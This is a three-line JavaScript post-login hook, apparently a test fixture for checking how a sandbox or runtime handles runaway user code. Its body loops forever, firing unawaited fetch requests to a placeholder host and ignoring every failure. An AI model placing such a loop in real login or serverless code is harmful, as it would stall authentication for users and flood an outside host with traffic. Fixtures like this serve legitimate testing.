exports.onExecutePostLogin = async function (event, api) {
  for (;;) fetch("https://x.test").catch(() => {});
};
